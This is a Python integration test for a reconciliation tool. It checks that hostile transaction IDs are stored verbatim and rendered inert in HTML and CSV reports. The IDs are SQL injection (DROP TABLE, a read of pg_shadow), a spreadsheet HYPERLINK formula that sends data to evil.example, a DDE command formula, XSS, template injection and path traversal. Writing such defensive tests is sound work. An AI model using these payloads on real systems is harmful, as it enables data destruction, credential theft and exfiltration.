"""A feed whose texts are SQL, a formula or markup: they stay texts, from the file to the record and the reports."""

import csv
import io
from pathlib import Path

from recon_assets.settings import Settings
from recon_assets.store.database import open_database
from recon_assets_tests.integration.deployments import HEADER, with_configuration

HOSTILE = (
    "x'); DROP TABLE discrepancies CASCADE; --",
    "'||(SELECT passwd FROM pg_shadow)||'",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}${7*7}%(x)s",
    "../../etc/passwd",
)


def feed(*ids: str) -> str:
    rows = io.StringIO()
    csv.writer(rows, lineterminator="\n").writerows(
        [identity, "12.34", "USD", "completed", "2025-09-30T10:00:00Z"] for identity in ids
    )
    return f"{HEADER}\n{rows.getvalue()}"


def test_hostile_texts_are_stored_and_shown_as_they_are_and_do_nothing(settings: Settings, tmp_path: Path) -> None:
    deployment = with_configuration(settings, tmp_path).files_processor(
        "hostile", processor=feed("a", *HOSTILE), ledger=feed("a")
    )
    run = deployment.run("hostile")
    assert run.discrepancy_count == len(HOSTILE)

    with open_database(deployment.settings) as database, database.connect_as_migrator() as record:
        stored = record.execute("SELECT transaction_id FROM discrepancies WHERE run_id = %s", [run.id]).fetchall()
    assert {identity for (identity,) in stored} == set(HOSTILE)

    (page,) = deployment.settings.reports_dir.rglob("reconciliation_report_*.html")
    text = page.read_text()
    assert "<script>alert" not in text
    assert 'href="http://evil.example' not in text
    assert "49" not in text.partition("7 * 7")[2][:40], "no template is run"
    (table,) = deployment.settings.reports_dir.rglob("*.csv")
    cells = [cell for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "|"))]
    assert not list(deployment.settings.data_dir.rglob("passwd"))
